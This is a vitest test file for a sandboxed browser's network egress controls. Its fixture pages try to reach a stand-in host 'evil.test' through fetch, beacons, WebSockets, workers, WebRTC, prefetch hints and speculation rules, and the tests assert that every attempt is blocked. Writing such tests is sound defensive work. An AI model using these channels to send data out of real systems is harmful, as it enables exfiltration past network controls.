import { createSocket } from "node:dgram";
import { type AddressInfo, createServer } from "node:net";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { BrowserSession, Refusal } from "#core/ports/index.ts";
import { codeOf, grant, html, never } from "../browser/stage.ts";
import { type Answer, browserProcesses, type NetStage, openNetStage, socketsOf, until } from "./net-stage.ts";

const app = "app.test";
const evil = "evil.test";
const cdn = "cdn.test";
const away = `https://${evil}`;
const at = (path: string): string => `https://${app}${path}`;
const script =
  (text: string): Answer =>
  (_request, response) =>
    response.writeHead(200, { "content-type": "text/javascript" }).end(text);
/** A page that puts what its script finds out into a paragraph, one line each. */
const finding = (body: string, lines: string): string =>
  html(`<h1>Finding</h1>${body}<p id="said"></p><script>(async()=>{const said=[];const say=(what,work)=>Promise.resolve().then(work).then(v=>said.push(what+" "+v),e=>said.push(what+" no"));
    ${lines}
    document.getElementById("said").textContent=said.join("; ");document.title="done"})()</script>`);

const everything = `
  fetch("${away}/fetch").catch(()=>{});fetch("${away}/blind",{mode:"no-cors"}).catch(()=>{});fetch("${away}/alive",{mode:"no-cors",keepalive:true,method:"POST",body:"x"}).catch(()=>{});
  const x=new XMLHttpRequest();x.open("GET","${away}/xhr");x.send();navigator.sendBeacon("${away}/beacon","x");
  new Image().src="${away}/image.gif";new EventSource("${away}/events");
  try{new WebSocket("wss://${evil}/socket")}catch{}
  const link=(rel,href)=>{const l=document.createElement("link");l.rel=rel;l.href=href;if(rel==="preload")l.as="image";document.head.append(l)};
  for(const rel of ["dns-prefetch","preconnect","prefetch","prerender","modulepreload","stylesheet","icon","manifest","preload"])link(rel,"https://"+rel+"-"+"ab2c3d4e5f".repeat(4)+".${evil}/x");
  const rules=document.createElement("script");rules.type="speculationrules";rules.textContent=JSON.stringify({prefetch:[{source:"list",urls:["${away}/spec"]}],prerender:[{source:"list",urls:["${away}/rendered"]}]});document.head.append(rules);
  import("${away}/module.js").catch(()=>{});`;

const pages: Readonly<Record<string, string | Answer>> = {
  "/": html("<h1>App</h1>"),
  "/fetches": finding(
    "",
    `await say("fetch",()=>fetch("${away}/f"));await say("blind",()=>fetch("${away}/b",{mode:"no-cors"}).then(()=>"yes"));
     await say("alive",()=>fetch("${away}/k",{mode:"no-cors",keepalive:true}).then(()=>"yes"));
     await say("xhr",()=>new Promise((done,fail)=>{const x=new XMLHttpRequest();x.onload=()=>done("yes");x.onerror=fail;x.open("GET","${away}/x");x.send()}));
     await say("redirected",()=>fetch("/to-evil").then(()=>"yes"));await say("own",()=>fetch("/data").then(r=>r.text()))`,
  ),
  "/to-evil": (_request, response) => response.writeHead(302, { location: `${away}/redirected`, "access-control-allow-origin": "*" }).end(),
  "/data": (_request, response) => response.end("granted"),
  "/sockets": finding(
    "",
    `const open=(url)=>new Promise((done,fail)=>{const s=new WebSocket(url);s.onopen=()=>{s.send("hello from the page");done("yes")};s.onerror=fail});
     await say("evil",()=>open("wss://${evil}/ws"));await say("plain",()=>open("ws://${app}:80/ws"));await say("plain443",()=>open("ws://${app}:443/ws"));
     await say("worker",()=>new Promise((done,fail)=>{const w=new Worker("/socket-worker.js");w.onmessage=e=>e.data==="yes"?done("yes"):fail()}));
     await say("own",()=>open("wss://${app}/ws"))`,
  ),
  "/socket-worker.js": script(`const s=new WebSocket("wss://${evil}/ws");s.onopen=()=>postMessage("yes");s.onerror=()=>postMessage("no")`),
  "/events": finding(
    "",
    `const hear=(url)=>new Promise((done,fail)=>{const s=new EventSource(url);s.onmessage=e=>{s.close();done(e.data)};s.onerror=()=>{s.close();fail()}});
     await say("evil",()=>hear("${away}/es"));await say("redirected",()=>hear("/es-away"));await say("locked",()=>hear("/es-locked"));
     await say("stream",()=>fetch("${away}/s").then(r=>r.body.getReader().read()));await say("own",()=>hear("/es"))`,
  ),
  "/es": (_request, response) => response.writeHead(200, { "content-type": "text/event-stream" }).end("data: heard\n\n"),
  "/es-away": (_request, response) => response.writeHead(302, { location: `${away}/es` }).end(),
  "/es-locked": (_request, response) => response.writeHead(401, { "www-authenticate": 'Basic realm="Knack"', location: `${away}/es` }).end(),
  "/lasting": finding(
    '<iframe id="f" srcdoc="<p>inside</p>"></iframe>',
    `await say("in",()=>"serviceWorker" in navigator);await say("register",()=>navigator.serviceWorker.register("/lasting.js").then(()=>"yes"));
     await new Promise(r=>setTimeout(r,100));
     const bare=document.body.appendChild(document.createElement("iframe"));
     for(const w of [document.getElementById("f").contentWindow,bare.contentWindow]){await say("frame",()=>w.navigator.serviceWorker.register("/lasting.js").then(()=>"yes"));
     await say("borrowed",()=>w.ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker,"/lasting.js").then(r=>String(!!r)))}
     await say("shared",()=>new Promise((done,fail)=>{const w=new SharedWorker("/shared.js");w.port.onmessage=e=>done(e.data);w.onerror=fail}))`,
  ),
  "/lasting.js": script(`fetch("${away}/from-service-worker")`),
  "/shared.js": script(`onconnect=e=>{fetch("${away}/from-shared",{mode:"no-cors"}).then(()=>"reached",()=>"kept").then(v=>e.ports[0].postMessage(v))}`),
  "/calls": (_request, response) => {
    response.writeHead(200, { "content-type": "text/html" });
    response.end(
      finding(
        '<iframe id="f" srcdoc="<p>inside</p>"></iframe><iframe id="s" sandbox="allow-scripts allow-same-origin" src="/"></iframe>',
        `await new Promise(r=>setTimeout(r,200));
         const bare=document.body.appendChild(document.createElement("iframe")); const tab=null;
         const realms=[window,document.getElementById("f").contentWindow,document.getElementById("s").contentWindow,bare.contentWindow,window.frames[0]];
         const names=["RTCPeerConnection","webkitRTCPeerConnection","RTCDataChannel","RTCIceTransport","WebTransport"];
         said.push("realms "+realms.flatMap(r=>names.filter(n=>n in r)).join());
         await say("worker",()=>new Promise((done,fail)=>{const w=new Worker("/rtc-worker.js");w.onmessage=e=>done(e.data)}));
         for(const r of realms)try{const c=new r.RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:${udpPort}"},{urls:"turn:127.0.0.1:${tcpPort}?transport=tcp",username:"a",credential:"b"},{urls:"stun:leak.${evil}:3478"}]});c.createDataChannel("x");c.setLocalDescription(await c.createOffer())}catch(e){}
         await new Promise(r=>setTimeout(r,500))`,
      ),
    );
  },
  "/rtc-worker.js": script(
    `let quic="none";try{const t=new WebTransport("https://127.0.0.1:${0}/");quic="made";t.ready.then(()=>postMessage("quic open"),()=>postMessage("rtc "+typeof RTCPeerConnection))}catch{postMessage("rtc "+typeof RTCPeerConnection)}`,
  ),
  "/hints": (_request, response) => {
    response.writeHead(200, {
      "content-type": "text/html",
      link: `<https://header.${evil}/>; rel=preconnect, <https://header2.${evil}/a.css>; rel=preload; as=style`,
    });
    response.end(html(`<h1>Hints</h1><a href="${away}/hovered">Over</a><script>${everything}</script>`));
  },
  "/parts": html(`<h1>Parts</h1><script src="https://${cdn}/lib.js"></script>`),
  "/query": html(`<h1>Query</h1><img src="https://${cdn}/p.gif?d=482913"><img src="https://${cdn}/p.gif">`),
};

let stage: NetStage;
let session: BrowserSession;
let udpPort = 0;
let tcpPort = 0;
const udp = createSocket("udp4");
const tcp = createServer((socket) => {
  tcpHits += 1;
  socket.destroy();
});
let datagrams = 0;
let tcpHits = 0;

const granted = [grant(app), grant(cdn, { use: "subresource" }), grant(app, { scheme: "wss" })] as const;

beforeAll(async () => {
  udp.on("message", () => {
    datagrams += 1;
  });
  udpPort = await new Promise<number>((resolve) => udp.bind(0, "127.0.0.1", () => resolve(udp.address().port)));
  await new Promise<void>((resolve) => tcp.listen(0, "127.0.0.1", resolve));
  tcpPort = (tcp.address() as AddressInfo).port;
  stage = await openNetStage({
    [app]: pages,
    [evil]: {},
    [cdn]: { "/lib.js": script(everything), "/p.gif": (_request, response) => response.writeHead(200, { "content-type": "image/gif" }).end() },
  });
  session = await stage.launch({ destinations: granted });
}, 60_000);
beforeEach(() => stage.clear());
afterAll(async () => {
  await stage.close();
  udp.close();
  tcp.close();
});

/** What the page's script found out, once it is done. */
async function said(path: string): Promise<string> {
  let { page } = await session.open(at(path), never);
  for (let tries = 0; page.title !== "done" && tries < 40; tries += 1) page = (await session.wait(200, never)).page;
  // What is read of a page is not of one moment; once it is done, it stays as it is.
  page = await session.view(never);
  return page.lines.find((line) => line.includes(";")) ?? page.text;
}

/** Nothing of evil was looked up, dialled or reached, and nothing but the hosts of this file either. */
function expectUntouched(): void {
  expect(stage.lookups.filter((name) => name !== app && name !== cdn)).toEqual([]);
  expect(stage.dialled.filter((place) => !/^93\.184\.215\.1[02]:443$/u.test(place))).toEqual([]);
  expect(stage.hitsOf(evil)).toEqual([]);
}

describe("a granted page", () => {
  it("NET-01: fetches nothing from elsewhere, and what is its own", async () => {
    expect(await said("/fetches")).toBe("fetch no; blind no; alive no; xhr no; redirected no; own granted");
    expectUntouched();
  });

  it("NET-03: opens no web socket that is not granted, also from a worker, and the one that is", async () => {
    expect(await said("/sockets")).toBe("evil no; plain no; plain443 no; worker no; own yes");
    expectUntouched();
    expect(stage.hitsOf(app)).toContain("GET /ws");
    expect(await until(() => (stage.bodies.get(app) ?? "").length >= "hello from the page".length)).toBe(true);
  });

  it("NET-04: hears no events and no stream from elsewhere, and its own", async () => {
    expect(await said("/events")).toBe("evil no; redirected no; locked no; stream no; own heard");
    expectUntouched();
  });

  it("NET-05: registers no service worker from any of its realms, and its shared worker is watched", async () => {
    const text = await said("/lasting");
    expect(text).toBe("in false; register no; frame no; borrowed no; frame no; borrowed no; shared kept");
    expect(stage.hitsOf(app)).not.toContain("GET /lasting.js");
    expectUntouched();
  });

  it("NET-09: has no way to call another computer, in no realm, and no datagram leaves", async () => {
    const text = await said("/calls");
    expect(text).toBe("realms ; worker rtc undefined");
    expect([datagrams, tcpHits]).toEqual([0, 0]);
    expectUntouched();
  });

  it.each([
    ["NET-11", "of its own", "/hints"],
    ["NET-12", "of a granted other host", "/parts"],
  ])("%s: with hints, rules and loads %s in the address of every kind has no name looked up", async (_row, _whose, path) => {
    const outcome = await session.open(at(path), never);
    await session.wait(1_000, never);
    expect(outcome.refused.filter(({ host }: Refusal) => host.endsWith(evil)).length).toBeGreaterThan(0);
    expectUntouched();
    expect(stage.egress().decisions.filter(({ allowed, host }) => allowed && host.endsWith(evil))).toEqual([]);
  });

  it("NET-13: sends a host that is granted without queries none, and loads the rest", async () => {
    const own = await stage.launch({ destinations: [grant(app), grant(cdn, { use: "subresource", noQuery: true })] });
    const { refused } = await own.open(at("/query"), never);
    await own.close();
    expect(refused.map(({ code, host }: Refusal) => `${code} ${host}`)).toEqual([`query ${cdn}`]);
    expect(stage.hitsOf(cdn)).toEqual(["GET /p.gif"]);
    await session.open(at("/query"), never);
    expect(stage.hitsOf(cdn)).toContain("GET /p.gif?d=482913");
  });
});

describe("two browsers", () => {
  it("NET-20: with different grants never use each other's, and take no credential of the other's proxy", async () => {
    const other = await stage.launch({ destinations: [grant(evil)] });
    const theirs = stage.egress();
    expect((await session.open(at("/"), never)).page.heading).toBe("App");
    expect(await codeOf(other.open(at("/"), never))).toBe("dest.host");
    expect(await codeOf(session.open(`${away}/`, never))).toBe("dest.host");
    expect((await other.open(`${away}/`, never)).page.heading).toBe("Nothing here");
    expect(theirs.decisions.every(({ allowed, host }) => !allowed || host === evil)).toBe(true);
    await other.close();
  });
});

describe.skipIf(process.platform !== "linux")("the browser's sockets", () => {
  it("NET-11, DNS-09: lead to its proxy and to nothing else, whatever proxies the environment names", async () => {
    let asked = 0;
    const wrong = createServer((socket) => {
      asked += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => wrong.listen(0, "127.0.0.1", resolve));
    const proxy = `http://127.0.0.1:${(wrong.address() as AddressInfo).port}`;
    const set = { HTTP_PROXY: proxy, https_proxy: proxy, ALL_PROXY: proxy, no_proxy: "*", auto_proxy: `${proxy}/proxy.pac` };
    const before = { ...process.env };
    Object.assign(process.env, set);
    try {
      const own = await stage.launch({ destinations: granted });
      await own.open(at("/hints"), never);
      const [main, ...rest] = await browserProcesses(stage.egress().port);
      expect(main?.args).toContain("--proxy-bypass-list=<-loopback>");
      const far = await socketsOf([main, ...rest].map((each) => each?.pid ?? 0));
      expect([...new Set(far.map(({ remote }) => remote))]).toEqual([`127.0.0.1:${stage.egress().port}`]);
      expect(asked).toBe(0);
      expect(stage.hitsOf(app)).toContain("GET /hints");
      await own.close();
    } finally {
      for (const name of Object.keys(set)) if (before[name] === undefined) delete process.env[name];
      wrong.close();
    }
  });
});
